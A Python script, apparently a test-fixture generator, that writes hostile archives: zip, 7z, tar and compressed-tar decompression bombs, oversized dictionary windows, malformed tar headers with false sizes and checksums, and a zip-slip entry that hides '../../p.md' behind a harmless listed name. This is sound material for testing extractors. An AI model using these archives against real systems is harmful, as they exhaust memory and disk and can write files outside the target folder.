#!/usr/bin/env python3
"""harm.py KIND FILE [NUMBER] - archives that are made to do harm, byte by byte.

Each KIND is a function below; NUMBER is how many, or how much of it.  FILE
ends in what the kind says.
"""
import io
import lzma
import struct
import sys
import zipfile
import zlib

TEXT = b"# x\n"


# ---- zip ----------------------------------------------------------------


def entry(name, packed, size, offset, crc, method):
    """The same fields in front of the bytes, and in the directory."""
    fields = struct.pack("<HHHHIIIHH", 0, method, 0, 0x5861, crc, len(packed),
                         size, len(name), 0)
    local = b"PK\3\4" + struct.pack("<H", 20) + fields + name + packed
    central = (b"PK\1\2" + struct.pack("<HH", 20, 20) + fields +
               struct.pack("<HHHII", 0, 0, 0, 0, offset) + name)
    return local, central


def directory_end(count, size, offset):
    return b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count & 0xFFFF,
                                   count & 0xFFFF, size, offset, 0)


def overlap(count):
    """.zip: many members quote each other: the bytes of one are the header of
    the next, and all end with the same zeros, unpacked for each again."""
    zeros = bytes(8 << 20)
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = z.compress(zeros) + z.flush()
    crc, size = zlib.crc32(zeros), len(zeros)
    names = [b"%06d.md" % i for i in range(count)]
    tail, parts = kernel, []
    for name in reversed(names):  # each quotes all behind it
        local, _ = entry(name, tail, size, 0, crc, 8)
        parts.append((name, len(tail), size, crc))
        quote = b"\0" + struct.pack("<HH", len(local) - len(tail),
                                    (len(local) - len(tail)) ^ 0xFFFF)
        head = local[:len(local) - len(tail)]
        crc = zlib.crc32(tail, zlib.crc32(head))  # wrong: nobody gets there
        size += len(head)
        tail = quote + head + tail
    body = tail[5:]
    end = len(body)
    directory = b""
    for name, packed, size, crc in reversed(parts):
        start = end - packed - 30 - len(name)
        directory += (b"PK\1\2" + struct.pack(
            "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0x5861, crc, packed, size,
            len(name), 0, 0, 0, 0, 0, start) + name)
    return body + directory + directory_end(count, len(directory), end)


def same(count):
    """.zip: as many names for one member."""
    zeros = bytes(8 << 20)
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = z.compress(zeros) + z.flush()
    local, central = entry(b"a.md", packed, len(zeros), 0, zlib.crc32(zeros), 8)
    directory = central * count
    return local + directory + directory_end(count, len(directory), len(local))


def lies(size):
    """.zip: says of a member in front that it has so many bytes."""
    local, central = entry(b"a.md", TEXT, size, 0, zlib.crc32(TEXT), 0)
    return local + central + directory_end(1, len(central), len(local))


def two_names(_):
    """.zip: one name in the directory, another one before the bytes."""
    local, _ = entry(b"../../p.md", TEXT, len(TEXT), 0, zlib.crc32(TEXT), 0)
    _, central = entry(b"harmless.md", TEXT, len(TEXT), 0, zlib.crc32(TEXT), 0)
    return local + central + directory_end(1, len(central), len(local))


def layers(count):
    """.zip: sixteen archives in each, so many layers deep, zeros at last."""
    data = bytes(16 << 20)
    name = "0.md"
    for depth in range(count):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(16):
                z.writestr("%d-%d-%s" % (depth, i, name), data)
        data, name = out.getvalue(), "x.zip"
    return data


# ---- 7z -----------------------------------------------------------------


def number(n):
    """As 7z writes them: the first byte tells how many follow."""
    for i in range(8):
        if n < 1 << (7 * (i + 1)):
            first = (0xFF << (8 - i)) & 0xFF
            return bytes([first | n >> 8 * i]) + \
                (n & (1 << 8 * i) - 1).to_bytes(i, "little")
    return b"\xff" + struct.pack("<Q", n)


def seven(header, window):
    """An archive of nothing but its list, packed with such a window."""
    how = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 20}]
    body = lzma.compress(header, lzma.FORMAT_RAW, filters=how)
    coder = b"\x23\3\1\1" + number(5) + bytes([93]) + struct.pack("<I", window)
    packed = (b"\x17\6" + number(0) + number(1) + b"\x09" + number(len(body)) +
              b"\0\7\x0b" + number(1) + b"\0" + number(1) + coder + b"\x0c" +
              number(len(header)) + b"\x0a\1" +
              struct.pack("<I", zlib.crc32(header)) + b"\0\0")
    start = struct.pack("<QQI", len(body), len(packed), zlib.crc32(packed))
    return (b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) +
            start + body + packed)


def empty_members(count):
    bits = b"\xff" * ((count + 7) // 8)
    return b"\1\5" + number(count) + b"\x0e" + number(len(bits)) + bits + b"\0\0"


def many(count):
    """.7z: a list of so many empty members, a bit each before it is packed."""
    return seven(empty_members(count), 1 << 20)


def window7(size):
    """.7z: a window of so many bytes for a list of one."""
    return seven(empty_members(1), size)


# ---- tar ----------------------------------------------------------------


def header(name, size=b"00000000004\0", kind=b"0"):
    block = bytearray(512)
    block[:len(name)] = name
    block[100:108], block[108:116] = b"0000644\0", b"0000000\0"
    block[116:124], block[124:136] = b"0000000\0", size
    block[136:148], block[156:157] = b"14570321040\0", kind
    block[257:265] = b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def padded(data):
    return data + bytes(-len(data) % 512)


def tar_of(*members):
    return b"".join(members) + bytes(1024)


def base256(n):
    return b"\x80" + n.to_bytes(11, "big", signed=True)


def size(n):
    """.tar: a member that says it has so many bytes, before one that is good."""
    return tar_of(header(b"a.md", base256(n)), padded(TEXT),
                  header(b"b.md"), padded(TEXT))


def checksum(_):
    """.tar: a wrong checksum in between."""
    bad = bytearray(header(b"b.md"))
    bad[0] ^= 1
    return tar_of(header(b"a.md"), padded(TEXT), bytes(bad), padded(TEXT),
                  header(b"c.md"), padded(TEXT))


def long_name(n):
    """.tar: says that a name of so many bytes follows."""
    return tar_of(header(b"././@LongLink", base256(n), b"L"), padded(b"x" * 600),
                  header(b"b.md"), padded(TEXT))


def pax(record):
    """.tar: a member with this record of a pax header."""
    length = len(record) + 3
    while len(b"%d %s\n" % (length, record)) != length:
        length += 1
    text = b"%d %s\n" % (length, record)
    return tar_of(header(b"x", b"%011o\0" % len(text), b"x"), padded(text),
                  header(b"a.md"), padded(TEXT), header(b"b.md"), padded(TEXT))


def paxes(n):
    """.tar: says of a pax header that it has so many bytes."""
    return tar_of(header(b"x", base256(n), b"x"), padded(b"9 path=a\n"),
                  header(b"b.md"), padded(TEXT))


def holes(count):
    """.tar: a map of so many holes, of a file of a terabyte."""
    lines = b"%d\n" % count + b"".join(b"%d\n0\n" % (i << 20)
                                       for i in range(count))
    records = [b"GNU.sparse.major=1", b"GNU.sparse.minor=0",
               b"GNU.sparse.name=a.md", b"GNU.sparse.realsize=%d" % (1 << 40)]
    text = b""
    for record in records:
        length = len(record) + 3
        while len(b"%d %s\n" % (length, record)) != length:
            length += 1
        text += b"%d %s\n" % (length, record)
    body = padded(lines)
    return tar_of(header(b"x", b"%011o\0" % len(text), b"x"), padded(text),
                  header(b"a.md", b"%011o\0" % len(body)), body,
                  header(b"b.md"), padded(TEXT))


# ---- what a tar is packed with ------------------------------------------


def plain():
    return tar_of(header(b"a.md"), padded(TEXT))


def window_xz(exponent):
    """.tar.xz: asks for a window of 2 to the power of so much."""
    data = bytearray(lzma.compress(plain(), preset=0))
    data[16] = 40 if exponent == 32 else 2 * (exponent - 12)
    end = 12 + (data[12] + 1) * 4 - 4
    data[end:end + 4] = struct.pack("<I", zlib.crc32(data[12:end]))
    return bytes(data)


def window_zst(exponent):
    """.tar.zst: the same."""
    data = plain()
    return (b"\x28\xb5\x2f\xfd\0" + bytes([exponent - 10 << 3]) +
            struct.pack("<I", len(data) << 3 | 1)[:3] + data)


def again(count):
    """.tar.gz: packed so many times over."""
    data = plain()
    for _ in range(count):
        z = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = z.compress(data) + z.flush()
    return data


def itself(count):
    """.zip: in it is an archive with an archive in it, and so on."""
    data = b"none"
    for _ in range(count):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
            z.writestr("itself.zip", data)
        data = out.getvalue()
    return data


KINDS = {f.__name__: f for f in (
    overlap, same, lies, two_names, layers, many, window7, size, checksum,
    long_name, paxes, holes, window_xz, window_zst, again, itself)}


def main(kind, path, value="0"):
    if kind == "pax":
        data = pax(value.encode().decode("unicode_escape").encode("latin-1"))
    else:
        data = KINDS[kind](int(value))
    with open(path, "wb") as out:
        out.write(data)


main(*sys.argv[1:])
